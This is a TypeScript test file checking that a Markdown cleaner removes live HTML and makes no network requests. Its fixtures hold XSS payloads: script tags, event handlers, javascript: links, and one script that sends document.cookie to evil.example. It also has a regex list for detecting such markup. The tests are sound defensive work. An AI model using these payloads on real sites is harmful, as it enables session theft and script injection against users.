/**
 * Issue 4.7: nothing in a document is executed or fetched. Raw HTML that could run script never
 * reaches `clean().markdown` live (a renderer would execute it), and `clean()` makes no network
 * request whatever URLs the document holds.
 */
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { unified } from 'unified';
import remarkParse from 'remark-parse';
import remarkGfm from 'remark-gfm';
import type { Html, Link, Nodes, Root } from 'mdast';
import { clean } from '../src/clean.js';

const parser = unified().use(remarkParse).use(remarkGfm);

function nodes<T extends Nodes>(tree: Root, test: (node: Nodes) => node is T): T[] {
  const found: T[] = [];
  const stack: Nodes[] = [tree];
  while (stack.length) {
    const node = stack.pop()!;
    if (test(node)) found.push(node);
    if ('children' in node) stack.push(...(node.children as Nodes[]));
  }
  return found;
}

/** HTML in the output that a Markdown renderer would pass through and a browser would run. */
const LIVE = [/<\s*script\b/i, /<\s*iframe\b/i, /<\s*(object|embed)\b/i, /\son[a-z]+\s*=/i, /javascript\s*:/i];

function liveHtml(markdown: string): string[] {
  const tree = parser.parse(markdown);
  const raw = nodes(tree, (n): n is Html => n.type === 'html').map((n) => n.value);
  const links = nodes(tree, (n): n is Link => n.type === 'link' || n.type === 'image')
    .map((n) => n.url).filter((url) => /^\s*(javascript|vbscript|data:text\/html)/i.test(url));
  return [...raw.filter((value) => LIVE.some((re) => re.test(value))), ...links];
}

const ARTICLE = 'The council met on Tuesday to discuss new water prices for farmers in the spring season.';

const HOSTILE: Record<string, string> = {
  'script block': `${ARTICLE}\n\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n${ARTICLE}\n`,
  'inline script': `${ARTICLE} <script>alert(1)</script> and more text.\n`,
  'script in a list item': `- ${ARTICLE}\n- <script>\n  alert(1)\n\n${ARTICLE}\n`,
  'iframe': `${ARTICLE}\n\n<iframe src="https://evil.example/embed" width="1"></iframe>\n`,
  'event handler attribute': `${ARTICLE}\n\n<img src="x.png" onerror="alert(1)">\n\n<p onclick="steal()">${ARTICLE}</p>\n`,
  'inline event handler': `${ARTICLE} <a href="#" onmouseover="alert(1)">hover</a> here.\n`,
  'javascript: link': `${ARTICLE} [Click here](javascript:alert(1)) to continue.\n`,
  'javascript: autolink': `${ARTICLE} <javascript:alert(1)> and so on.\n`,
  'javascript: in an HTML link': `${ARTICLE} <a href="javascript:alert(1)">read</a> it.\n`,
  'object and embed': `${ARTICLE}\n\n<object data="x.swf"></object>\n\n<embed src="x.swf">\n`,
};

describe('security: no live HTML in the output', () => {
  for (const [name, input] of Object.entries(HOSTILE)) {
    it(name, () => {
      expect(liveHtml(input), 'the input itself is live').not.toEqual([]);
      const { markdown } = clean(input);
      expect(liveHtml(markdown)).toEqual([]);
      // The article itself is still there.
      expect(markdown).toContain('water prices');
    });
  }
});

describe('security: no network request', () => {
  const calls: string[] = [];
  const refuse = (what: string) => (...args: unknown[]) => {
    calls.push(`${what} ${String(args[0]).slice(0, 80)}`);
    throw new Error(`network access during clean(): ${what}`);
  };

  beforeEach(() => {
    calls.length = 0;
    vi.spyOn(globalThis, 'fetch').mockImplementation(refuse('fetch'));
    vi.spyOn(http, 'request').mockImplementation(refuse('http.request'));
    vi.spyOn(http, 'get').mockImplementation(refuse('http.get'));
    vi.spyOn(https, 'request').mockImplementation(refuse('https.request'));
    vi.spyOn(https, 'get').mockImplementation(refuse('https.get'));
    vi.spyOn(net, 'connect').mockImplementation(refuse('net.connect'));
    vi.spyOn(net, 'createConnection').mockImplementation(refuse('net.createConnection'));
  });
  afterEach(() => vi.restoreAllMocks());

  it('cleans a document full of URLs, images and embeds without touching the network', () => {
    const input = [
      '# A headline', '', ARTICLE, '',
      '![photo](https://example.org/photo.jpg)', '',
      '<img src="https://example.org/pixel.gif"><iframe src="https://example.org/embed"></iframe>', '',
      '<link rel="stylesheet" href="https://example.org/x.css">', '',
      `Read more at https://example.org/story and [the source](https://example.org/source). ${ARTICLE}`, '',
      '[ref]: https://example.org/ref', '',
    ].join('\n');
    const result = clean(input, { url: 'https://example.org/article' });
    expect(calls).toEqual([]);
    expect(result.markdown).toContain('water prices');
  });
});
